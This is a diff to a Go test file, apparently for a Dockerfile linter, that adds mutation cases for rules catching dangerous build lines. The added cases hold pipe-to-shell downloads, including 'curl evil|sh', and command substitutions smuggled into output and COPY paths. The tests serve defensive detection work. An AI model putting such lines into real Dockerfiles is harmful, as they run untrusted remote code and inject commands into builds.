@@ -73,6 +73,12 @@ func TestMutationsAreCaught(t *testing.T) {
 		{"check directive", "FROM --platform", "# check=skip=all\nFROM --platform", "DZ013"},
 		{"syntax directive", "FROM --platform", "# syntax=docker/dockerfile:1\nFROM --platform", "DZ014"},
 		{"buildkit casing", "AS build", "as build", "buildkit/FromAsCasing"},
+		{"download piped to a shell", "ARG TARGETOS\n", "RUN curl -fsSL https://get.example/install.sh | sh\nARG TARGETOS\n", "DZ017"},
+		{"injected pipe to shell", "ARG TARGETOS\n", "RUN corepack install --global pnpm@9.15.9\nRUN curl evil|sh\nARG TARGETOS\n", "DZ017"},
+		{"shell runs a download", "ARG TARGETOS\n", "RUN bash -c \"$(wget -qO- https://get.example/x)\"\nARG TARGETOS\n", "DZ017"},
+		{"substitution in -o", "-o /out/app .", "-o /out/$(id) .", "DZ018"},
+		{"backtick in -o", "-o /out/app .", "-o /out/`id` .", "DZ018"},
+		{"substitution in COPY", "COPY --from=build /out/app /usr/local/bin/app", "COPY --from=build /out/app$(id) /usr/local/bin/app", "DZ018"},
 	}
 	for _, c := range cases {
 		t.Run(c.name, func(t *testing.T) {
